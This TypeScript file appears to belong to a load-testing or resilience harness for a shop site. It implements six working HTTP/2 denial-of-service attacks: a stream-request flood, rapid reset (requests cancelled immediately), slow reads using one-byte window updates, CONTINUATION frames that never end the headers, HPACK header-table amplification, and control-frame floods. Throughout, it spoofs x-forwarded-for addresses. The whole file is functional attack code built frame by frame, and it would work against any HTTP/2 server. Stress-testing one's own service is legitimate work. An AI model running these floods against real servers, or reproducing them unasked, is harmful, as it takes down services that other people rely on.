/**
 * Floods over HTTP/2, of which one connection holds many requests. What browsers never send is written frame by frame.
 * Each attack comes from one network, in few connections.
 */
import { once } from "node:events";
import { connect as connectHttp2, constants } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as connectTls, type TLSSocket } from "node:tls";
import {
  END_HEADERS,
  END_STREAM,
  FRAMES,
  NOTHING,
  PREFACE,
  toFrame,
  toHeader,
  toSetting,
} from "#harness/http2-frames.ts";
import type { Attack, AttackedShop } from "./attack.ts";

const CONNECTIONS = 16;
/** As many as a connection may have at once. */
const STREAMS = 100;
/** An attack that only holds what it has lasts so long. */
const HOLD_MS = 10_000;
const DRIP_MS = 100;
/** Larger frames are refused. */
const FRAME_BYTES = 16_384;
const ROWS = "/rest/v1/products?select=*&limit=1000";

export function listHttp2Attacks({ url, anonKey }: AttackedShop): Attack[] {
  const { host, hostname, port } = new URL(url);
  const toHead = (address: string, path: string) =>
    Buffer.concat([
      // GET over https, from the table of frequent headers.
      Buffer.from([0x82, 0x87]),
      toHeader(":path", path),
      toHeader(":authority", host),
      toHeader("x-forwarded-for", address),
    ]);
  /** Opens connections that write this and read nothing of what comes, until the signal is aborted or they end. */
  const flood = (signal: AbortSignal, write: (socket: TLSSocket, connection: number) => Promise<void>) =>
    sendFromAll(async (connection) => {
      const socket = connectTls({ host: hostname, port: Number(port), ALPNProtocols: ["h2"] });
      const closed = new Promise((resolve) => socket.once("close", resolve));
      socket.on("error", () => {});
      socket.once("secureConnect", () => {
        socket.write(PREFACE);
        write(socket, connection).catch(() => socket.destroy());
      });
      const stop = () => socket.destroy();
      signal.addEventListener("abort", stop, { once: true });
      await closed;
      signal.removeEventListener("abort", stop);
    });
  const writeFrames = async (socket: TLSSocket, frames: Buffer, times: number) => {
    socket.write(toFrame(FRAMES.settings, 0, 0, NOTHING));
    socket.resume();
    for (let time = 0; time < times && !socket.destroyed; time++) {
      if (!socket.write(frames)) await once(socket, "drain");
    }
    socket.destroySoon();
  };

  return [
    {
      name: "HTTP/2: pages and lists by the hundred",
      run: (_, signal, count) =>
        sendFromAll(async (connection) => {
          const session = connectHttp2(url);
          session.on("error", () => {});
          const stop = () => session.destroy();
          signal.addEventListener("abort", stop, { once: true });
          const paths = ["/products", `/?x=${connection}`, `/product/none-${connection}`, ROWS];
          const asked = Array.from({ length: STREAMS }, async (_, index) => {
            const path = paths[index % paths.length];
            const stream = session.request({
              ":path": path,
              "x-forwarded-for": "203.20.0.66",
              apikey: anonKey,
            });
            stream.once("response", (head) => count(Number(head[":status"])));
            await once(stream.resume(), "close");
          });
          await Promise.allSettled(asked);
          signal.removeEventListener("abort", stop);
          session.destroy();
        }),
    },
    {
      name: "HTTP/2: cancelled requests",
      run: (_, signal) => {
        const head = toHead("203.21.0.66", ROWS);
        const cancel = Buffer.from([0, 0, 0, constants.NGHTTP2_CANCEL]);
        const frames = Buffer.concat(
          Array.from({ length: 2000 }, (_, index) =>
            Buffer.concat([
              toFrame(FRAMES.headers, END_STREAM | END_HEADERS, 2 * index + 1, head),
              toFrame(FRAMES.rstStream, 0, 2 * index + 1, cancel),
            ]),
          ),
        );
        return flood(signal, (socket) => writeFrames(socket, frames, 1));
      },
    },
    {
      name: "HTTP/2: answers read byte by byte",
      run: (_, signal) => {
        const heads = ["/", "/products", ROWS].map((path) => toHead("203.22.0.66", path));
        const requests = Array.from({ length: STREAMS }, (_, index) =>
          toFrame(FRAMES.headers, END_STREAM | END_HEADERS, 2 * index + 1, heads[index % 3] ?? NOTHING),
        );
        const one = Buffer.from([0, 0, 0, 1]);
        const bytes = Array.from({ length: STREAMS }, (_, index) =>
          toFrame(FRAMES.windowUpdate, 0, 2 * index + 1, one),
        );
        const smallWindow = toSetting(constants.NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 1);
        return flood(signal, async (socket) => {
          socket.resume();
          socket.write(Buffer.concat([toFrame(FRAMES.settings, 0, 0, smallWindow), ...requests]));
          for (let held = 0; held < HOLD_MS && !socket.destroyed; held += DRIP_MS) {
            await sleep(DRIP_MS);
            socket.write(Buffer.concat(bytes));
          }
          socket.destroy();
        });
      },
    },
    {
      name: "HTTP/2: headers without an end",
      run: (_, signal) => {
        const part = Buffer.concat(
          Array.from({ length: 120 }, (_, index) => toHeader(`x-${index}`, "a".repeat(120))),
        ).subarray(0, FRAME_BYTES);
        const frames = Buffer.concat([
          toFrame(FRAMES.headers, END_STREAM, 1, toHead("203.23.0.66", "/")),
          ...Array.from({ length: 200 }, () => toFrame(FRAMES.continuation, 0, 1, part)),
        ]);
        return flood(signal, (socket) => writeFrames(socket, frames, 1));
      },
    },
    {
      name: "HTTP/2: a header that is repeated by its number",
      run: (_, signal) => {
        // Remembered as number 62, of nearly as many bytes as are remembered; each repetition is one byte.
        const remembered = Buffer.concat([
          Buffer.from([0x40, 1]),
          Buffer.from("x"),
          toLength(4000),
          Buffer.alloc(4000, "a"),
        ]);
        const repeated = Buffer.alloc(FRAME_BYTES - 5000, 0x80 | 62);
        const head = toHead("203.24.0.66", "/");
        const first = toFrame(FRAMES.headers, END_STREAM | END_HEADERS, 1, Buffer.concat([head, remembered]));
        const next = Array.from({ length: STREAMS }, (_, index) =>
          toFrame(FRAMES.headers, END_STREAM | END_HEADERS, 2 * index + 3, Buffer.concat([head, repeated])),
        );
        return flood(signal, (socket) => writeFrames(socket, Buffer.concat([first, ...next]), 1));
      },
    },
    {
      name: "HTTP/2: frames that ask for nothing",
      run: (_, signal) => {
        const kinds = [
          toFrame(FRAMES.ping, 0, 0, Buffer.alloc(8)),
          toFrame(FRAMES.settings, 0, 0, NOTHING),
          toFrame(FRAMES.priority, 0, 1, Buffer.from([0, 0, 0, 3, 16])),
          toFrame(FRAMES.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
        ];
        return flood(signal, (socket, connection) =>
          writeFrames(socket, Buffer.concat(new Array(1000).fill(kinds[connection % kinds.length])), 300),
        );
      },
    },
  ];
}

function sendFromAll(send: (connection: number) => Promise<void>): Promise<unknown> {
  return Promise.all(Array.from({ length: CONNECTIONS }, (_, connection) => send(connection)));
}

/** A length of 127 bytes or more, as header compression writes it. */
function toLength(length: number): Buffer {
  const bytes = [127];
  let left = length - 127;
  for (; left >= 128; left >>= 7) bytes.push(128 | (left & 127));
  return Buffer.from([...bytes, left]);
}
